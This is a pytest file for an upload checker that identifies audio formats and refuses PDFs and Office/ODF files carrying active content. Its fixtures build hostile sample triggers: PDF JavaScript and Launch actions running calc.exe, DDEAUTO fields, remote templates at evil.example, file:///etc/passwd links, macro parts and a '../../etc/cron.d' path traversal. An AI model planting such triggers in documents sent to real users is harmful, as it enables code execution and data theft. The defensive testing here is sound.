"""Files from outside that are kept as they came: what is a recording, a document, or more than that."""

import io
import struct
import zipfile

import pikepdf
import pytest
from weasyprint import HTML

from toolkit_portal.core import pdf_look
from toolkit_portal.core.file_kinds import file_kind
from toolkit_portal.core.office_files import check_office_file
from toolkit_portal.core.pdf_look import WORDS, look_at_pdf
from toolkit_portal.core.uploads import UploadError


def box(name: bytes, content: bytes) -> bytes:
    return struct.pack(">I4s", len(content) + 8, name) + content


def mp4(*handlers: bytes, brand: bytes = b"isom", moov_last: bool = True) -> bytes:
    tracks = b"".join(
        box(b"trak", box(b"mdia", box(b"hdlr", b"\0" * 8 + handler + b"\0" * 12))) for handler in handlers
    )
    parts = [box(b"mdat", b"\x21" * 9000), box(b"moov", tracks)]
    return box(b"ftyp", brand + b"\0\0\2\0" + brand) + b"".join(parts if moov_last else parts[::-1])


RECORDINGS = {
    "mp3": b"ID3\x03\0\0\0\0\0\x21" + b"\0" * 100,
    "mp3 without a head": b"\xff\xfb\x90\x64" + b"\0" * 400,
    "m4a": mp4(b"soun", brand=b"M4A "),
    "m4a in an mp4": mp4(b"soun", moov_last=False),
    "wav": b"RIFF\x24\0\0\0WAVEfmt " + b"\0" * 40,
    "ogg": b"OggS\0\2" + b"\0" * 22 + b"\x01vorbis" + b"\0" * 30,
    "opus": b"OggS\0\2" + b"\0" * 22 + b"OpusHead" + b"\0" * 30,
    "webm": b"\x1a\x45\xdf\xa3\x9f\x42\x82\x84webm" + b"\0" * 50 + b"A_OPUS" + b"\0" * 10,
}


@pytest.mark.parametrize("name", RECORDINGS)
def test_a_recording_is_told_by_its_content(name: str):
    kind = {"opus": "ogg"}.get(name, name.split()[0])
    file = io.BytesIO(RECORDINGS[name])
    assert file_kind(file) == kind
    assert file.tell() == 0


@pytest.mark.parametrize(
    "content",
    [
        mp4(b"vide", b"soun"),
        b"\x1a\x45\xdf\xa3\x9f\x42\x82\x84webm" + b"V_VP8" + b"A_OPUS",
        b"OggS" + b"\0" * 24 + b"\x80theora",
        b"RIFF\x24\0\0\0AVI LIST",
    ],
)
def test_a_video_is_no_recording(content: bytes):
    assert file_kind(io.BytesIO(content)) == "video"


@pytest.mark.parametrize(
    "content",
    [
        box(b"ftyp", b"isom"),
        box(b"ftyp", b"isom") + struct.pack(">I4s", 5, b"moov") + b"x" * 20,
        box(b"ftyp", b"isom") + struct.pack(">I4s", 2**31, b"moov") + b"x" * 20,
        box(b"ftyp", b"isom") + struct.pack(">I4sQ", 1, b"mdat", 2**63) + b"x" * 20,
        b"OggS" + b"\0" * 40,
        b"\x1a\x45\xdf\xa3" + b"\0" * 40,
        b"\xff\xfe\0\0",
    ],
)
def test_half_a_container_is_no_recording(content: bytes):
    assert file_kind(io.BytesIO(content)) not in {"m4a", "ogg", "webm", "mp3", "video"}


# PDF


@pytest.fixture(scope="module")
def plain_pdf() -> bytes:
    return HTML(string="<title>x</title><h1>A letter</h1><a href='https://example.org'>link</a>").write_pdf()


def changed(content: bytes, change, **options) -> io.BytesIO:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(content)) as pdf:
        change(pdf)
        pdf.save(out, **options)
    out.seek(0)
    return out


def test_a_plain_pdf_is_taken_with_a_picture_of_its_first_page(plain_pdf: bytes):
    looked = look_at_pdf(io.BytesIO(plain_pdf), side=320)
    assert looked.refusal == ""
    assert looked.picture.startswith(b"\x89PNG")


def action(**values) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(**values)


def open_with(**values):
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = action(**values)

    return change


def on_a_page(**values):
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.pages[0].AA = pikepdf.Dictionary(O=action(**values))

    return change


def attached(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["a.txt"] = b"hello"


def named_script(pdf: pikepdf.Pdf) -> None:
    pdf.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("x")]))
    )


def nested(pdf: pikepdf.Pdf) -> None:
    inner = action(S=pikepdf.Name.URI, Next=pikepdf.Array([action(S=pikepdf.Name.Launch, F="calc.exe")]))
    pdf.Root.OpenAction = inner


def media(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].Annots = pikepdf.Array([pikepdf.Dictionary(Subtype=pikepdf.Name.RichMedia)])


def form(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AcroForm = pikepdf.Dictionary(XFA=pikepdf.String("x"))


ATTACKS = [
    (open_with(S=pikepdf.Name.JavaScript, JS="app.alert(1)"), "active"),
    (open_with(S=pikepdf.Name.Launch, F="calc.exe"), "active"),
    (on_a_page(S=pikepdf.Name.JavaScript, JS="x"), "active"),
    (named_script, "active"),
    (nested, "active"),
    (media, "active"),
    (form, "active"),
    (attached, "files"),
]


@pytest.mark.parametrize("packed", ["generate", "disable"])
@pytest.mark.parametrize(("change", "why"), ATTACKS, ids=range(len(ATTACKS)))
def test_a_pdf_that_does_more_than_be_read_is_refused(plain_pdf: bytes, change, why: str, packed: str):
    """Also where it stands in a compressed stream, and no byte of it can be seen from outside."""
    mode = getattr(pikepdf.ObjectStreamMode, packed)
    file = changed(plain_pdf, change, object_stream_mode=mode)
    assert look_at_pdf(file, side=320).refusal == why
    assert WORDS[why]


def test_a_name_written_in_numbers_is_known(plain_pdf: bytes):
    file = changed(plain_pdf, ATTACKS[0][0], object_stream_mode=pikepdf.ObjectStreamMode.disable)
    hidden = file.getvalue().replace(b"/JavaScript", b"/J#61v#61Sc#72")
    assert b"/JavaScript" not in hidden
    assert look_at_pdf(io.BytesIO(hidden), side=320).refusal != ""


def test_a_locked_or_broken_pdf_is_refused_in_its_own_words(plain_pdf: bytes):
    locked = changed(plain_pdf, lambda pdf: None, encryption=pikepdf.Encryption(user="a", owner="b"))
    assert look_at_pdf(locked, side=320).refusal == "locked"
    for broken in (
        b"%PDF-1.7\nnothing",
        plain_pdf[: len(plain_pdf) // 2],
        plain_pdf.replace(b"startxref", b"startxxxx"),
    ):
        assert look_at_pdf(io.BytesIO(broken), side=320).refusal == "damaged"


def test_a_page_of_any_size_makes_a_small_picture(plain_pdf: bytes):
    def huge(pdf: pikepdf.Pdf) -> None:
        pdf.pages[0].MediaBox = pikepdf.Array([0, 0, 14_400_000, 1])

    assert look_at_pdf(changed(plain_pdf, huge), side=320).refusal == ""


def test_a_pdf_that_takes_too_long_is_refused(plain_pdf: bytes, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr(pdf_look, "WALL_SECONDS", 0.01)
    assert look_at_pdf(io.BytesIO(plain_pdf), side=320).refusal == "long"


def test_the_process_that_looks_has_limits_and_no_secrets(plain_pdf: bytes, monkeypatch: pytest.MonkeyPatch):
    seen = {}
    run = pdf_look.subprocess.run

    def watched(*args, **kwargs):
        seen.update(kwargs)
        return run(*args, **kwargs)

    monkeypatch.setenv("SECRET_KEY", "secret")
    monkeypatch.setattr(pdf_look.subprocess, "run", watched)
    look_at_pdf(io.BytesIO(plain_pdf), side=320)
    assert seen["timeout"] <= 30
    assert set(seen["env"]) <= {"PATH", "LANG", "LC_ALL"}


# Office files

RELS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" Type="http://x/{kind}" Target="{target}"{mode}/></Relationships>'
)
TYPES = '<Types xmlns="http://x"><Default Extension="xml" ContentType="{}"/></Types>'
WORD = '<w:document xmlns:w="http://w"><w:body>{}</w:body></w:document>'
MANIFEST = '<m:manifest xmlns:m="http://m"><m:file-entry m:media-type="{}" m:full-path="/"/></m:manifest>'
CONTENT = '<o:d xmlns:o="http://o" xmlns:xlink="http://x" xmlns:script="http://s">{}</o:d>'


def archive(parts: dict[str, str | bytes]) -> io.BytesIO:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in parts.items():
            made.writestr(name, content)
    out.seek(0)
    return out


def docx(changes: dict[str, str | bytes] | None = None, *, types: str = "application/xml") -> io.BytesIO:
    return archive(
        {"[Content_Types].xml": TYPES.format(types), "word/document.xml": WORD.format("")} | (changes or {})
    )


def odt(changes: dict[str, str | bytes] | None = None, *, types: str = "text/xml") -> io.BytesIO:
    return archive(
        {
            "mimetype": "application/vnd.oasis.opendocument.text",
            "META-INF/manifest.xml": MANIFEST.format(types),
            "content.xml": CONTENT.format('<o:a xlink:href="https://example.org">link</o:a>'),
        }
        | (changes or {})
    )


def rels(kind: str, target: str, *, external: bool = True) -> str:
    return RELS.format(kind=kind, target=target, mode=' TargetMode="External"' if external else "")


@pytest.mark.parametrize(
    ("kind", "file"),
    [
        ("docx", docx({"word/_rels/document.xml.rels": rels("hyperlink", "https://example.org")})),
        ("docx", docx({"word/_rels/document.xml.rels": rels("image", "media/a.png", external=False)})),
        ("docx", docx({"word/document.xml": WORD.format("<w:instrText> PAGE </w:instrText>")})),
        ("odt", odt({"Pictures/a.svg": "<svg/>"})),
        ("odt", odt({"content.xml": CONTENT.format('<o:image xlink:href="Pictures/a.png"/>')})),
    ],
)
def test_a_plain_office_file_is_taken(kind: str, file: io.BytesIO):
    check_office_file(file, kind)
    assert file.tell() == 0
    assert file_kind(file) == kind


SETTINGS = "word/_rels/settings.xml.rels"
BAD_OFFICE = [
    ("docx", docx({"word/vbaProject.bin": b"x"}), "macros"),
    ("docx", docx({"word/VBAPROJECT.BIN": b"x"}), "macros"),
    ("docx", docx(types="application/vnd.ms-word.document.macroEnabled.main+xml"), "macros"),
    ("docx", docx({"word/embeddings/oleObject1.bin": b"x"}), "inside"),
    ("docx", docx({"word/embeddings/sheet.xlsx": b"x"}), "inside"),
    ("docx", docx({"word/media/run.EXE": b"MZ"}), "inside"),
    ("docx", docx({"word/activeX/activeX1.xml": b"x"}), "inside"),
    ("docx", docx(types="application/vnd.openxmlformats-officedocument.oleObject"), "inside"),
    ("docx", docx({SETTINGS: rels("attachedTemplate", "https://evil.example/t.dotm")}), "elsewhere"),
    ("docx", docx({SETTINGS: rels("attachedTemplate", "\\\\evil\\t.dotm", external=False)}), "elsewhere"),
    ("docx", docx({"word/_rels/document.xml.rels": rels("image", "file:///etc/passwd")}), "elsewhere"),
    ("docx", docx({"word/document.xml": WORD.format("<w:fldSimple w:instr=' DDEAUTO c:\\\\cmd '/>")}), "elsewhere"),
    (
        "docx",
        docx({"word/document.xml": WORD.format("<w:instrText>DDE</w:instrText><w:instrText>AUTO c</w:instrText>")}),
        "elsewhere",
    ),
    ("docx", docx({"word/document.xml": f"<!DOCTYPE x [<!ENTITY a 'b'>]>{WORD.format('')}"}), "damaged"),
    ("docx", docx({"word/document.xml": "<not closed"}), "damaged"),
    ("docx", docx({"../../etc/cron.d/x": b"x"}), "damaged"),
    ("docx", docx({"Word/Document.xml": b"x"}), "damaged"),
    ("docx", archive({"word/document.xml": WORD.format("")}), "damaged"),
    ("xlsx", docx({"xl/externalLinks/externalLink1.xml": "<x/>"}), "elsewhere"),
    ("xlsx", docx({"xl/macrosheets/sheet1.xml": "<x/>"}), "macros"),
    ("xlsx", docx({"xl/connections.xml": "<x/>"}), "elsewhere"),
    ("odt", odt({"Basic/Standard/Module1.xml": "<x/>"}), "macros"),
    ("odt", odt({"Scripts/python/x.py": "x"}), "macros"),
    ("odt", odt({"content.xml": CONTENT.format("<script:event-listener/>")}), "macros"),
    ("odt", odt({"content.xml": CONTENT.format('<o:image xlink:href="https://evil.example/a.png"/>')}), "elsewhere"),
    ("odt", odt({"content.xml": CONTENT.format('<o:object xlink:href="//evil/a"/>')}), "elsewhere"),
    ("odt", odt({"content.xml": CONTENT.format("<o:object-ole/>")}), "inside"),
    ("odt", odt({"content.xml": CONTENT.format("<o:dde-source/>")}), "elsewhere"),
    ("odt", odt(types="application/vnd.sun.star.oleobject"), "inside"),
    ("odt", archive({"mimetype": "x", "content.xml": "<x/>"}), "damaged"),
]  # fmt: skip


@pytest.mark.parametrize(("kind", "file", "said"), BAD_OFFICE, ids=range(len(BAD_OFFICE)))
def test_an_office_file_that_does_something_is_refused_with_words(kind: str, file: io.BytesIO, said: str):
    with pytest.raises(UploadError, match=said):
        check_office_file(file, kind)


def test_a_rule_written_in_another_encoding_is_read_all_the_same():
    hidden = (
        '<?xml version="1.0" encoding="UTF-16"?>' + rels("attachedTemplate", "https://e.example/t")
    ).encode("utf-16")
    assert b"External" not in hidden
    with pytest.raises(UploadError, match="elsewhere"):
        check_office_file(docx({"word/_rels/settings.xml.rels": hidden}), "docx")


def test_a_part_that_lies_about_its_size_is_refused():
    content = bytearray(docx({"word/settings.xml": b"<a>" + b"x" * 5000 + b"</a>"}).getvalue())
    for mark, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = 0
        while (found := content.find(mark, start)) >= 0:
            content[found + at : found + at + 4] = struct.pack("<I", 10)
            start = found + 4
    with pytest.raises(UploadError):
        check_office_file(io.BytesIO(bytes(content)), "docx")


def test_many_parts_are_read_in_pieces():
    """The reader hands out what it has read so far; words of a field that ends in the next piece aren't lost."""
    filler = "<w:p>" + "x" * 300_000 + "</w:p>"
    body = f"<w:instrText>DD{'</w:instrText>'}{filler}<w:instrText>EAUTO calc</w:instrText>"
    with pytest.raises(UploadError, match="elsewhere"):
        check_office_file(docx({"word/document.xml": WORD.format(body)}), "docx")
